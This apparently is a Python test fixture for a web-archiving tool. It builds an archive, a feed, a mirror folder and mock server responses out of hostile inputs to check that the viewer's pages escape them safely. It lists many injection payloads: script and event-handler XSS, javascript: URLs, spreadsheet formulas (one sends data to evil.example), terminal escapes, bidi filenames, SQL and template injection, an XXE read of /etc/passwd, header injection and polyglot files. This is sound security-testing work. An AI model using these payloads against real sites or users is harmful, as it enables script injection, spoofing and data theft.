"""What a publisher, a mirror or a file's name can do to who looks at an archive, saved by the real commands.

`make_archive(root)` saves all of it; `pages(root)` are the addresses at which it can be seen. Nothing of it
may run, load or hide anything: whatever is run calls `alert` or sets `pwned`.
"""

import html
import io
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

from browse_archive import encoded, scene
from commands import archiver, query
from PIL import Image
from wide import WIDE
from wire_server import Asked, Step, WireServer

HOST = "evil.example"
RUN = "alert(pwned=1)"
# As a title, an author, a section, alternative text, a caption, a paragraph, a claimed time, a picture's
# name, a feed's title and description.
TEXTS = {
    "script": f"<script>{RUN}</script>",
    "script in capitals": f"<ScRiPt/x>{RUN}</sCrIpT >",
    "image": f'"><img src=x onerror="{RUN}">',
    "image in quotes": f"'><img src=x onerror='{RUN}'>",
    "svg": f'<svg/onload="{RUN}">',
    "iframe": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "textarea": f"</textarea><script>{RUN}</script>",
    "title element": f"</title><script>{RUN}</script>",
    "style element": f"</style><script>{RUN}</script>",
    "details": f'<details open ontoggle="{RUN}">',
    "comment": f"--><script>{RUN}</script><!--",
    "CDATA": f"]]><script>{RUN}</script>",
    "attribute": f'" autofocus onfocus="{RUN}" x="',
    "attribute without quotes": f"x onmouseover={RUN} y",
    "MathML": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "template": f"<template><script>{RUN}</script></template>",
    "base": '<base href="//evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    "form": '<form action="//evil.example/"><input name=pwned autofocus></form>',
    "style": '<p style="position:fixed;inset:0;background:url(//evil.example/css)">',
    "import": "@import url(//evil.example/css);}*{display:none}",
    "Jinja": "{{ 1111111*7 }}{% raw %}{{ config }}{# #}",
    "format": "%(title)s %s %n {0.__class__} ${7*1111111}",
    "entity": "&lt;script&gt;&#60;script&#62;alert(pwned=1)&#x3c;/script>",
    "markdown": f"[x](javascript:{RUN}) ![x](//evil.example/md.png)",
    "formula": "=cmd|' /C calc'!A0",
    "formula plus": '+HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1",
    "formula in full width": "＝1＋1",
    "formula in quotes": '"=1+1","=2+2"\r\n=3+3',
    "terminal": "\x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m",
    "terminal C1": "\u009b2J\u009d0;pwned\u009c",
    "terminal line": "saved\r\x1b[Knot saved\b\b\b\b\b\b\b\bsaved",
    "bidi": "photo\u202egnp.exe\u2066\u2069",
    "bidi isolates": "\u2067abc\u2068def",
    "nothing seen": "a\ufeffb",
    "null": "a\x00b<script\x00>",
    "surrogate": "a\ud800b",
    "quote of SQL": "'; DROP TABLE articles; --",
    "words of FTS": 'NEAR(" OR * AND ) NOT "',
    "long": "<b>" + "A" * 20_000,
    "long Chinese": "渡" * 5_000,
}
URLS = (
    f"javascript:{RUN}",
    f"JaVaScRiPt&#58;{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    f'http://{HOST}/"onmouseover="{RUN}',
    f"http://{HOST}/'><script>{RUN}</script>",
    f"http://{HOST}/%0d%0aSet-Cookie:%20pwned=1",
    f"http://{HOST}\\@127.0.0.1/",
    f"http://user:{RUN}@{HOST}/x.jpg",
    "http://[::1/x.jpg",
    f"http://{HOST}/{'x' * 3000}.jpg",
    f"http://{HOST}/..%2f..%2fetc/passwd",
)
FILES = (
    f"<img src=x onerror={RUN}>.txt",
    "=cmd|' calc'!A0.txt",
    "photo\u202egnp.txt",
    "clear\x1b[2J.txt",
    "{{ 1111111*7 }}.txt",
    "'; DROP TABLE articles; --.txt",
    "-rf --into.txt",
    "%2e%2e%2f.txt",
    "a\nb.txt",
)
# What the documents say that have these names.
SPOKEN = "script", "formula", "bidi", "terminal", "Jinja", "terminal C1", "terminal line", "textarea", "null"
_PNG, _GIF = encoded(scene(1, (96, 64)), "PNG"), encoded(scene(2, (96, 64)).convert("P"), "GIF")
_JPEG = encoded(scene(4, (96, 64)))
_SCRIPT = f"<script>{RUN}</script>".encode()
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="%s"><script>%s</script></svg>' % (
    (RUN.encode(),) * 2
)
_XML = b"<?xml version='1.0'?><?xml-stylesheet href='data:text/xsl,x'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"


def _metadata() -> bytes:
    exif = Image.Exif()
    exif[0x013B], exif[0x8298], exif[0x0110] = (TEXTS[name] for name in ("script", "terminal", "formula"))
    out = io.BytesIO()
    scene(3, (96, 64)).save(out, "JPEG", exif=exif)
    return out.getvalue()


# As pictures: media type as served, and bytes.
BODIES: dict[str, tuple[str, bytes]] = {
    "SVG": ("image/svg+xml", _SVG),
    "SVG as PNG": ("image/png", _SVG),
    "HTML as JPEG": ("image/jpeg", b"<!DOCTYPE html>" + _SCRIPT),
    "HTML without a type": ("", b"<html>" + _SCRIPT),
    "HTML after JPEG's first bytes": ("text/html", b"\xff\xd8\xff\xe0" + _SCRIPT),
    "HTML after a PNG": ("text/html", _PNG + _SCRIPT),
    "GIF and script": ("text/javascript", b"GIF89a/*" + _GIF[8:] + b"*/=1;" + RUN.encode()),
    "UTF-7": ("text/html; charset=utf-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    "UTF-16": ("text/html", f"\ufeff<script>{RUN}</script>".encode("utf-16-le")),
    "XHTML": ("application/xhtml+xml", b'<html xmlns="http://www.w3.org/1999/xhtml">' + _SCRIPT + b"</html>"),
    "XML": ("text/xml", _XML + b"<x>&e;</x>"),
    "JSON": ("application/json", b'{"a": "</script>' + _SCRIPT + b'"}'),
    "style sheet": ("text/css", b"*{background:url(//evil.example/css)}"),
    "PDF": ("application/pdf", b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
    "many elements": ("text/html", b"<div>" * 6000 + _SCRIPT),
    "metadata": ("image/jpeg", _metadata()),
}
# As fields of an answer.
FIELDS = (
    f'Content-Type: text/html"><script>{RUN}</script>',
    f"X-Evil: <script>{RUN}</script>\x1b[2J\x9b2J",
    f"Set-Cookie: pwned=<img src=x onerror={RUN}>",
    'Content-Disposition: attachment; filename="../../../etc/passwd"',
    f"Refresh: 0;url=javascript:{RUN}",
    "Link: <//evil.example/css>; rel=stylesheet",
    "Content-Security-Policy: script-src * 'unsafe-inline'",
    f"Location: javascript:{RUN}",
    f'ETag: "</textarea><script>{RUN}</script>"',
)
COUNT = len(TEXTS) + len(URLS) + len(FILES) + len(BODIES) + len(FIELDS) + 1  # and the status line


def _escaped(text: str) -> str:
    """For HTML; control characters as references, for a page with the characters themselves is no text."""
    said = html.escape(text.replace("\ud800", "\ufffd"))
    return "".join(f"&#{ord(each)};" if ord(each) < 32 and each not in "\t\n\r" else each for each in said)


def _page(text: str, number: int) -> str:
    said, picture = _escaped(text), f"/picture/{number}/{quote(text[:200], safe='', errors='replace')}.jpg"
    return (
        f'<html lang="{said[:100]}"><head><title>{said}</title><meta name="author" content="{said}">'
        f'<meta property="article:section" content="{said}"></head><body><article><h1>{said}</h1>'
        f'<time datetime="{said}">{said}</time><figure><img src="{picture}" alt="{said}">'
        f"<figcaption>{said}</figcaption></figure>"
        f"<p>{said}</p><p>What is said here is said once more: {said}. It has words enough.</p></article>"
    )


def _hostile_page() -> str:
    """Pictures that are something else, under URLs that are none; nothing in it is escaped."""
    images = "".join(f"<p>{name}<img src='/body/{number}'>" for number, name in enumerate(BODIES))
    links = "".join(f'<p><img src="{html.escape(url)}"><a href="{html.escape(url)}">{name}</a>'
                    for name, url in enumerate(URLS))  # fmt: skip
    raw = "".join(
        f"<p>{text}</p>" for name, text in TEXTS.items() if name != "surrogate" and len(text) < 1000
    )
    words = "<p>All of this is on one page, whose words are many, so that it is taken for an article.</p>" * 3
    return f"<html><title>Bodies</title><article><h1>Bodies</h1>{words}{images}{links}{raw}</article>"


def _answer(asked: Asked) -> Iterator[Step]:
    kind, _, rest = asked.path.partition("?")[0].strip("/").partition("/")
    number = int(rest.split("/")[0]) if rest.split("/")[0].isdecimal() else 0
    status, fields, media_type = "200 OK", "", "text/html; charset=utf-8"
    if kind == "text":
        body = _page(list(TEXTS.values())[number], number).encode("utf-8", "replace")
    elif kind == "bodies":
        body, fields = (
            _hostile_page().encode("utf-8", "replace"),
            "".join(f"{each}\r\n" for each in FIELDS[1:]),
        )
    elif kind == "body":
        media_type, body = list(BODIES.values())[number]
    elif kind == "picture":
        media_type, body = "image/jpeg", _JPEG
    else:
        status, body = f"404 <script>{RUN}</script>\x1b[2J", _SCRIPT
        fields = f"{FIELDS[0]}\r\n"
        media_type = ""
    head = f"HTTP/1.1 {status}\r\n{fields}" + (f"Content-Type: {media_type}\r\n" if media_type else "")
    yield (
        f"{head}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode("latin-1", "replace") + body
    )
    yield "close"


def _feed() -> str:
    def said(text: str) -> str:
        return html.escape("".join(each for each in text if each in "\t\n" or each.isprintable()))

    items = "".join(
        f"<item><title>{said(text)}</title><link>http://{HOST}/text/{number}</link>"
        f"<author>{said(text)}</author><description>{said(text)}</description></item>"
        for number, text in enumerate(TEXTS.values())
    )
    title = said(TEXTS["script"])
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>{title}</title>{items}</channel></rss>'


def _documents(folder: Path) -> None:
    folder.mkdir()
    for number, name in enumerate(FILES):
        text = TEXTS[SPOKEN[number]]
        head = f"<!--1699468744000-->\n[{text}](http://{HOST}/file/{number})\n------\n\n"
        (folder / name).write_text(
            f'{head}<div>{text}<img src="{URLS[number]}" alt="{html.escape(text)}"></div><p>{text}</p>\n',
            "utf-8",
            "replace",
        )


def make_archive(root: Path) -> None:
    """Save it all in the archive `root`; what is given lies beside it."""
    given = root.with_name(f"{root.name}-given")
    given.mkdir(parents=True)
    (given / "feed.xml").write_text(_feed(), "utf-8")
    _documents(given / "mirror")
    with WireServer(_answer) as server:
        flags = (
            "--connect-to",
            f"::127.0.0.1:{server.port}",
            "--delay",
            "0",
            "--retries",
            "0",
            "--per-host",
            "8",
        )
        sources = (str(given / "feed.xml"), str(given / "mirror"), f"http://{HOST}/bodies")
        code, _, text = archiver("archive", *sources, "--into", str(root), "--ignore-robots", RUN, *flags)
    assert code in (0, 3), text
    assert not SHOWN_TO_TERMINALS.intersection(text), text


SHOWN_TO_TERMINALS = frozenset(
    map(chr, [*range(9), *range(11, 32), *range(127, 160), *range(0x202A, 0x202F)])
)


def pages(root: Path) -> list[str]:
    """Addresses of ours and of Datasette's at which it stands: all of them with WIDE=1."""

    def column(sql: str) -> list[str]:
        return [str(value) for (value,) in query(root, sql)]

    records = column("SELECT id FROM records" if WIDE else _TELLING)
    articles = column(
        "SELECT id FROM articles"
        if WIDE
        else "SELECT id FROM articles WHERE kind = 'document' OR kind = 'page' AND id % 3 = 0"
    )
    tables = column(
        "SELECT name FROM sqlite_master WHERE type IN ('table', 'view') AND name NOT GLOB 'article_words*'"
    )
    return [
        *("/", "/-/articles", "/-/pictures", "/-/duplicates", "/-/captures", "/-/timeline", "/-/checks"),
        *(f"/-/captures?host={quote(host)}" for host in (HOST, TEXTS["image"])),
        *(f"/-/search?q={quote(TEXTS[name], errors='replace')}" for name in SPOKEN),
        *(f"/-/articles/{number}" for number in articles),
        f"/-/articles/{articles[-1]}/versions",
        *(f"/-/pictures/{name[7:]}" for name in column("SELECT payload_digest FROM pictures")),
        *(f"/-/records/{number}" for number in records),
        "/catalogue",
        *(f"/catalogue/{name}?_size=100" for name in tables),
    ]


_TELLING = """
SELECT id FROM records
WHERE uri LIKE '%/body/%' AND type = 'response' OR type = 'resource' OR uri LIKE '%/bodies' OR id % 25 = 0
"""
